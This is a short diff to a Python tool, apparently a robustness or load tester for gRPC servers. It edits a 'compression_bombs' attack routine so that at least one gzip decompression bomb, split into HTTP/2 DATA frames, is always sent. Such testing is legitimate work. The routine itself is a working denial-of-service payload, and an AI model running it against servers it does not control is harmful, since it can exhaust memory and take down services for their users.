@@ -129,21 +129,27 @@ def oversized_messages(target: Target, going_on: Callable[[], bool]) -> int:
 @attack
 def compression_bombs(target: Target, going_on: Callable[[], bool]) -> int:
     """A message of 1 MiB less a little that unpacks to a thousand times as much."""
-    packed = bomb(512 * _KIB * _KIB)[: 900 * _KIB]
+    packed = bomb(512 * _KIB * _KIB)[: 900 * _KIB]  # all the time that is given may go by meanwhile: one is sent anyway
+
+    sent = False
+
+    def first_or_going_on() -> bool:
+        return not sent or going_on()
 
     def use(line: Line) -> int:
+        nonlocal sent
         done = 0
         for stream in range(1, _STREAMS, 2):
-            done += 1
+            done, sent = done + 1, True
             body = message(packed, packed=True)
             head = call_head(_METHOD, ("grpc-encoding", "gzip"))
             pieces = [body[at : at + 16 * _KIB] for at in range(0, len(body), 16 * _KIB)]
             data = b"".join(frame(DATA, END_STREAM * (each is pieces[-1]), stream, each) for each in pieces)
-            if not going_on() or not line.say(frame(HEADERS, END_HEADERS, stream, head) + data):
+            if not line.say(frame(HEADERS, END_HEADERS, stream, head) + data) or not going_on():
                 break
         return done
 
-    return _lines(target, going_on, use)
+    return _lines(target, first_or_going_on, use)
 
 
 @attack
